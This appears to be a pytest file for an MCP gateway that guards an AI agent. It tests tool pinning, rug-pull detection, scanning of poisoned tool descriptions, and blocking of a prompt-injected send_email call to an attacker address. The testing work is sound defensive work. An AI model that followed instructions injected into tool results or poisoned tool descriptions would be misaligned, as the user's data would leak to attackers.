"""The gateway core in-process: real downstream processes, fake decider/approver/audit."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from stockade.gateway import Gateway, GatewayConfig, PinStore, ServerSpec, SubprocessLauncher
from stockade.gateway._jsonrpc import encode
from stockade.gateway._stdio import serve_streams
from stockade.testing import FakeClock, MemoryAuditSink, ScriptedApprover, StaticDecider

CRED = "host-credential-0123456789"

Body = Callable[[Gateway, MemoryAuditSink], Awaitable[Any]]


def run_gateway(
    tmp_path: Path,
    servers: list[ServerSpec],
    body: Body,
    *,
    allow: set[str] | None = None,
    approval: set[str] | None = None,
    approver_allows: bool = False,
    clock: FakeClock | None = None,
    **cfg: Any,
) -> Any:
    async def go() -> Any:
        sink = MemoryAuditSink()
        gw = Gateway(
            GatewayConfig(servers=tuple(servers), clients=("agent",), **cfg),
            pins=PinStore(tmp_path / "pins"),
            launcher=SubprocessLauncher(),
            decider=StaticDecider(allow=allow or set(), approval=approval),
            approver=ScriptedApprover(allow=approver_allows),
            audit=sink,
            clock=clock or FakeClock(),
            host_credential=CRED,
        )
        await asyncio.wait_for(gw.start(), 20)
        try:
            return await asyncio.wait_for(body(gw, sink), 30)
        finally:
            await gw.close()

    return asyncio.run(go())


async def call(gw: Gateway, name: str, args: dict[str, Any], conv: str = "") -> dict[str, Any]:
    params: dict[str, Any] = {"name": name, "arguments": args}
    if conv:
        params["_meta"] = {"stockade/conversation": conv}
    resp = await gw.handle(
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}, client="agent"
    )
    assert resp is not None
    return dict(resp["result"])


async def listed(gw: Gateway) -> list[str]:
    resp = await gw.handle({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}, client="agent")
    assert resp is not None
    return [t["name"] for t in resp["result"]["tools"]]


ALLOW = {"evil__echo", "evil__send_email", "evil__add"}


@pytest.mark.guarantee("gw-pin-hidden-until-approved")
def test_without_pins_or_tofu_nothing_is_listed_or_callable(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        assert await listed(gw) == []
        out = await call(gw, "evil__echo", {"message": "hi"})
        assert out["isError"]
        assert "pinning" in out["content"][0]["text"]
        assert {e.data["event"] for e in sink.of_type("gateway.pin")} == {"pin.new"}

    run_gateway(tmp_path, [evil_spec()], body, allow=ALLOW)


@pytest.mark.guarantee("gw-denial-is-tool-error")
def test_only_pinned_and_allowed_tools_are_listed_and_denials_keep_the_session(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        assert await listed(gw) == ["evil__echo"]
        denied = await call(gw, "evil__send_email", {"to": "a@b", "body": "x"})
        assert denied["isError"]
        assert "policy" in denied["content"][0]["text"]
        ok = await call(gw, "evil__echo", {"message": "hi"})
        assert not ok["isError"]
        assert "Echo: hi" in ok["content"][0]["text"]

    run_gateway(tmp_path, [evil_spec(tofu=True)], body, allow={"evil__echo"})


@pytest.mark.guarantee("gw-unknown-method-denied")
@pytest.mark.parametrize(
    "method",
    [
        "sampling/createMessage",
        "roots/list",
        "elicitation/create",
        "tools/delete",
        "prompts/set",
        "x",
    ],
)
def test_unknown_methods_are_refused_not_forwarded(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec], method: str
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> dict[str, Any] | None:
        return await gw.handle({"jsonrpc": "2.0", "id": 7, "method": method}, client="agent")

    resp = run_gateway(tmp_path, [evil_spec(tofu=True)], body)
    assert resp is not None
    assert resp["error"]["code"] == -32601


@pytest.mark.guarantee("gw-rugpull-hidden")
def test_a_rug_pull_announced_by_list_changed_hides_the_tool(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    notified: list[dict[str, Any]] = []

    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        async def notify(msg: dict[str, Any]) -> None:
            notified.append(msg)

        gw.set_notifier(notify)
        first = await call(gw, "evil__echo", {"message": "hi"})
        assert not first["isError"]
        for _ in range(200):  # bounded: the refresh runs as its own task
            if "evil__echo" not in await listed(gw):
                break
            await asyncio.sleep(0.02)
        assert await listed(gw) == ["evil__send_email"]
        again = await call(gw, "evil__echo", {"message": "hi"})
        assert again["isError"]
        assert "pinning" in again["content"][0]["text"]

    run_gateway(tmp_path, [evil_spec("rugpull", tofu=True)], body, allow=ALLOW)
    assert notified == [{"jsonrpc": "2.0", "method": "notifications/tools/list_changed"}]
    _, pending = PinStore(tmp_path / "pins").load_pending("evil")
    assert pending["echo"].reason == "changed"
    assert {f.kind for f in pending["echo"].findings} >= {"hidden-tag", "sensitive-path"}


@pytest.mark.guarantee("gw-rugpull-hidden")
def test_a_definition_changed_between_runs_is_hidden_at_start(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[str]:
        return await listed(gw)

    assert run_gateway(tmp_path, [evil_spec(tofu=True)], body, allow=ALLOW) == [
        "evil__echo",
        "evil__send_email",
    ]
    changed = evil_spec(
        tofu=True, env={"DESCRIPTION": "Echoes. Now with <IMPORTANT>extras</IMPORTANT>"}
    )
    assert run_gateway(tmp_path, [changed], body, allow=ALLOW) == ["evil__send_email"]


@pytest.mark.guarantee("gw-scan-findings")
def test_a_poisoned_tool_stays_hidden_with_its_findings_recorded(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[str]:
        return await listed(gw)

    assert "evil__add" not in run_gateway(
        tmp_path, [evil_spec("poison", tofu=True)], body, allow=ALLOW
    )
    _, pending = PinStore(tmp_path / "pins").load_pending("evil")
    kinds = {f.kind for f in pending["add"].findings}
    assert kinds >= {"hidden-tag", "sensitive-path", "secrecy", "invisible-unicode"}


@pytest.mark.guarantee("gw-namespace-no-collision")
def test_two_servers_with_the_same_tool_names_are_kept_apart(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[str]:
        return await listed(gw)

    servers = [evil_spec(name="one", tofu=True), evil_spec(name="two", tofu=True)]
    names = run_gateway(tmp_path, servers, body, allow={"one__echo", "two__echo"})
    assert names == ["one__echo", "two__echo"]


@pytest.mark.guarantee("gw-flow-sink")
@pytest.mark.guarantee("gw-results-untrusted")
def test_injected_instructions_in_a_result_cannot_steer_a_sink_call(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        reg = await call(
            gw,
            "stockade__register_context",
            {"conversation": "c1", "instruction": "what is the weather?", "credential": CRED},
        )
        assert not reg["isError"]
        out = await call(gw, "evil__echo", {"message": "weather?"}, conv="c1")
        text = out["content"][0]["text"]
        assert "\x1b" not in text
        assert "\u202e" not in text
        assert text.count("</untrusted-tool-output>") == 1
        assert out["_meta"]["stockade/trust"] == "untrusted"
        steered = await call(
            gw, "evil__send_email", {"to": "attacker@evil.example", "body": "s"}, conv="c1"
        )
        assert steered["isError"]
        assert "approval" in steered["content"][0]["text"]
        audit = sink.of_type("gateway.call")[-1].data
        assert "flow: to not from trusted context" in audit["provenance"]

    sinks = {"send_email": {"action": "allow", "sensitive_args": ["to"]}}
    spec = evil_spec("inject", tofu=True, tools=sinks)
    # the decider allows send_email; the information-flow rule turns it into an approval request
    run_gateway(tmp_path, [spec], body, allow=ALLOW)


@pytest.mark.guarantee("gw-taint-unregistered")
def test_registration_with_a_wrong_credential_is_refused_and_guessing_locks_it(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[bool]:
        out = []
        for cred in ["guess"] * 10 + [CRED]:
            args = {"conversation": "c1", "instruction": "x", "credential": cred}
            out.append((await call(gw, "stockade__register_context", args))["isError"])
        return out

    results = run_gateway(tmp_path, [evil_spec(tofu=True)], body)
    assert results == [True] * 11  # even the right credential is refused after 10 guesses


@pytest.mark.guarantee("gw-downstream-timeout")
def test_a_stuck_downstream_call_returns_a_tool_error(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> dict[str, Any]:
        return await call(gw, "evil__echo", {"message": "hi"})

    out = run_gateway(
        tmp_path, [evil_spec("slow", tofu=True, call_timeout_s=0.3)], body, allow=ALLOW
    )
    assert out["isError"]
    assert "did not answer" in out["content"][0]["text"]


@pytest.mark.guarantee("gw-bounded-messages")
@pytest.mark.guarantee("gw-malformed-jsonrpc")
def test_the_agent_side_answers_garbage_with_errors_and_keeps_serving(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[bytes]:
        reader = asyncio.StreamReader()
        reader.feed_data(b"{oops\n")
        reader.feed_data(
            b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":"' + b"x" * 5000 + b'"}\n'
        )
        reader.feed_data(encode({"jsonrpc": "2.0", "id": 2, "method": "ping"}))
        reader.feed_eof()
        out: list[bytes] = []

        async def write(data: bytes) -> None:
            out.append(data)

        await serve_streams(gw, reader, write, client="agent")
        return out

    lines = run_gateway(tmp_path, [evil_spec(tofu=True)], body, max_message_bytes=2048)
    assert b'"code":-32700' in lines[0]
    assert b'"code":-32600' in lines[1]
    assert b'"id":2' in lines[2]
    assert b'"result":{}' in lines[2]


def test_a_crashed_server_is_restarted_after_its_backoff(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    clock = FakeClock()

    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        crashed = await call(gw, "evil__echo", {"message": "hi"})
        assert crashed["isError"]
        assert "exited" in crashed["content"][0]["text"]
        early = await call(gw, "evil__send_email", {"to": "a@b", "body": "x"})
        assert "next restart attempt in 1.0s" in early["content"][0]["text"]
        clock.advance(1.0)
        later = await call(gw, "evil__send_email", {"to": "a@b", "body": "x"})
        assert not later["isError"], later
        assert "sent to a@b" in later["content"][0]["text"]
        assert len(sink.of_type("gateway.server_restart")) == 1
        assert gw.backoff.failures("evil") == 0

    run_gateway(tmp_path, [evil_spec("crash", tofu=True)], body, allow=ALLOW, clock=clock)


def test_backoff_doubles_up_to_its_cap() -> None:
    from stockade.gateway import Backoff

    clock = FakeClock()
    b = Backoff(clock, base_s=1, cap_s=5)
    assert [b.failed("s") for _ in range(5)] == [1, 2, 4, 5, 5]
    assert b.wait_s("s") == 5
    clock.advance(5)
    assert b.wait_s("s") == 0
    b.succeeded("s")
    assert b.failed("s") == 1


def test_a_cancelled_call_gets_no_answer_and_the_session_goes_on(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[bytes]:
        reader = asyncio.StreamReader()
        out: list[bytes] = []
        call = {"name": "evil__echo", "arguments": {"message": "hi"}}
        reader.feed_data(
            encode({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call})
        )

        async def write(data: bytes) -> None:
            out.append(data)

        serving = asyncio.create_task(serve_streams(gw, reader, write, client="agent"))
        for _ in range(100):  # bounded: let the call reach the stuck server
            await asyncio.sleep(0)
        cancel = {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": 1}}
        reader.feed_data(encode(cancel))
        reader.feed_data(encode({"jsonrpc": "2.0", "id": 2, "method": "ping"}))
        reader.feed_eof()
        await serving
        return out

    lines = run_gateway(
        tmp_path, [evil_spec("slow", tofu=True, call_timeout_s=20)], body, allow=ALLOW
    )
    assert len(lines) == 1
    assert b'"id":2' in lines[0]


def test_a_flood_of_list_changed_is_coalesced(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> str:
        first = await call(gw, "evil__echo", {"message": "x"})
        assert "lists=1" in first["content"][0]["text"]
        for _ in range(500):  # bounded: let the notifications arrive and refreshes finish
            await asyncio.sleep(0.01)
            if not gw._refreshing and gw.sessions["evil"].running:
                break
        second = await call(gw, "evil__echo", {"message": "x"})
        return str(second["content"][0]["text"])

    text = run_gateway(tmp_path, [evil_spec("listflood", tofu=True)], body, allow=ALLOW)
    lists = int(text.split("lists=")[1].split()[0])
    assert 2 <= lists <= 4  # the start, then one running and one queued refresh


@pytest.mark.guarantee("gw-pin-hidden-until-approved")
def test_a_tool_listed_twice_is_never_exposed() -> None:
    from stockade.gateway import PinSet, reconcile

    a = {"name": "echo", "description": "one", "inputSchema": {"type": "object"}}
    b = {"name": "echo", "description": "two", "inputSchema": {"type": "object"}}
    first = reconcile(PinSet(server="s"), "p", [a], tofu=True)
    rec = reconcile(first.pins, "p", [a, b], tofu=True)
    assert rec.exposed == {}
    assert rec.pending["echo"].reason == "duplicate"


def test_stateless_era_requests_are_answered_and_unknown_versions_refused(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> tuple[Any, Any]:
        meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28"}
        params = {"name": "evil__echo", "arguments": {"message": "hi"}, "_meta": meta}
        ok = await gw.handle(
            {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}, client="agent"
        )
        bad_meta = {"io.modelcontextprotocol/protocolVersion": "2099-01-01"}
        bad = await gw.handle(
            {"jsonrpc": "2.0", "id": 2, "method": "tools/list", "params": {"_meta": bad_meta}},
            client="agent",
        )
        return ok, bad

    ok, bad = run_gateway(tmp_path, [evil_spec(tofu=True)], body, allow=ALLOW)
    assert ok["result"]["resultType"] == "complete"
    assert "Echo: hi" in ok["result"]["content"][0]["text"]
    assert bad["error"]["code"] == -32602


def test_a_server_that_failed_to_start_is_retried_with_backoff_on_listing(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    clock = FakeClock()
    gone = ServerSpec(name="gone", command=("/nonexistent/server",))

    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[int]:
        attempts: list[int] = []
        for _ in range(3):
            await listed(gw)
            for _ in range(100):  # bounded: let the background attempt finish
                await asyncio.sleep(0)
                if not gw._refreshing:
                    break
            attempts.append(len(sink.of_type("gateway.server_restart")))
            clock.advance(0.5)
        return attempts

    attempts = run_gateway(tmp_path, [gone, evil_spec(tofu=True)], body, allow=ALLOW, clock=clock)
    # failed at start (backoff 1 s): no attempt at t=0 or t=0.5; one at t=1.0
    assert attempts == [0, 0, 1]


def test_lazy_servers_start_when_first_listed_or_called(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        assert not gw.sessions["one"].running
        assert not gw.sessions["two"].running
        out = await call(gw, "two__echo", {"message": "hi"})
        assert "Echo: hi" in out["content"][0]["text"]
        assert not gw.sessions["one"].running
        assert "one__echo" in await listed(gw)
        assert gw.sessions["one"].running

    servers = [
        evil_spec(name="one", tofu=True, start="lazy"),
        evil_spec(name="two", tofu=True, start="lazy"),
    ]
    run_gateway(tmp_path, servers, body, allow={"one__echo", "two__echo"})


def test_idle_servers_are_stopped_and_restarted_by_the_next_call(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    clock = FakeClock()

    async def body(gw: Gateway, sink: MemoryAuditSink) -> None:
        await call(gw, "evil__echo", {"message": "a"})
        clock.advance(59)
        assert await gw.stop_idle() == []
        clock.advance(1)
        assert await gw.stop_idle() == ["evil"]
        assert not gw.sessions["evil"].running
        assert "evil__echo" in await listed(gw)  # still listed, not restarted by listing
        assert not gw.sessions["evil"].running
        out = await call(gw, "evil__echo", {"message": "b"})
        assert "Echo: b" in out["content"][0]["text"]
        assert gw.sessions["evil"].running

    run_gateway(tmp_path, [evil_spec(tofu=True, idle_stop_s=60)], body, allow=ALLOW, clock=clock)


def test_a_corrupt_pin_file_found_on_list_changed_hides_the_servers_tools(
    tmp_path: Path, evil_spec: Callable[..., ServerSpec]
) -> None:
    async def body(gw: Gateway, sink: MemoryAuditSink) -> list[str]:
        (tmp_path / "pins" / "evil.pins.json").write_text("{corrupt")
        await call(gw, "evil__echo", {"message": "hi"})  # triggers list_changed after answering
        for _ in range(200):  # bounded: the refresh runs as its own task
            await asyncio.sleep(0.01)
            if sink.of_type("gateway.server_failed"):
                break
        return await listed(gw)

    assert run_gateway(tmp_path, [evil_spec("rugpull", tofu=True)], body, allow=ALLOW) == []
